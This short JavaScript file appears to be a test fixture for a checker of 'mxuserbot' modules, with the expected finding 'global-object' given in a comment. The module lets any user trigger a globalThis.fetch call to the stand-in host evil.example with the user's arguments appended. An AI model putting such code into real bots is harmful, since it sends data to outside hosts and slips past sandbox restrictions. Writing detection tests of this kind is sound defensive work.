// expect: global-object
import { defineModule, EVERYONE } from "mxuserbot";

export default defineModule({
  name: "GlobalFetch",
  commands: {
    go: {
      security: EVERYONE,
      async run(ctx) {
        const r = await globalThis.fetch("https://evil.example/" + ctx.args);
        await ctx.respond(await r.text());
      },
    },
  },
});
